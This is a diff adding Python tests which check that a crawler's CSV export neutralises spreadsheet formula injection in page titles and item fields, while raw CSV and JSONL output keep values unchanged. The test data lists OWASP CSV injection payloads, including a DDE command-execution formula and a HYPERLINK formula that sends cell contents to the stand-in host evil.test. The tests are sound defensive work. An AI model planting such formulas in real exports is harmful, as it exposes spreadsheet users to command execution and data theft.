@@ -253,3 +253,49 @@ async def test_export_from_a_sqlite_store(tmp_path: Path) -> None:
         }
     finally:
         await store.close()
+
+
+INJECTIONS = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.test/?"&A1,"click")',
+]
+
+
+async def test_csv_neutralises_formulas_in_titles_and_items() -> None:
+    """Issue 12.11: OWASP CSV injection payloads are written as text, not formulas."""
+    pages = [
+        PageRecord(fp(10 + i), f"https://e.com/{i}", f"https://e.com/{i}", 200, title, 0,
+                   title, T0, 1, -0.5, 1, None, "docs")
+        for i, title in enumerate(INJECTIONS)
+    ]  # fmt: skip
+    out = io.StringIO(newline="")
+    assert await export(make_store(pages=pages), "pages", "csv", out) == len(INJECTIONS)
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
+    assert [r[5] for r in rows] == ["'" + t for t in INJECTIONS]  # title
+    assert [r[3] for r in rows] == ["'" + t for t in INJECTIONS]  # content type, from headers
+    assert {r[8] for r in rows} == {"-0.5"}  # numbers stay numbers
+
+    items = [item(0, {"=evil": INJECTIONS[0], "n": -3, "s": "-3", "ok": "fine", "l": ["=x"]})]
+    out = io.StringIO(newline="")
+    await export(make_store(items=items), "items", "csv", out)
+    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert header[0] == "'=evil"
+    assert row[:5] == ["'" + INJECTIONS[0], "-3", "-3", "fine", '["=x"]']
+
+
+async def test_csv_raw_and_jsonl_keep_values_as_they_are() -> None:
+    pages = [
+        PageRecord(fp(10), "https://e.com/", "https://e.com/", 200, "text/html", 0,
+                   INJECTIONS[0], T0, 1, 0.5, 1, None, "docs")
+    ]  # fmt: skip
+    out = io.StringIO(newline="")
+    await export(make_store(pages=pages), "pages", "csv", out, escape_formulas=False)
+    assert list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1][5] == INJECTIONS[0]
+    out = io.StringIO()
+    await export(make_store(pages=pages), "pages", "jsonl", out)
+    assert json.loads(out.getvalue())["title"] == INJECTIONS[0]
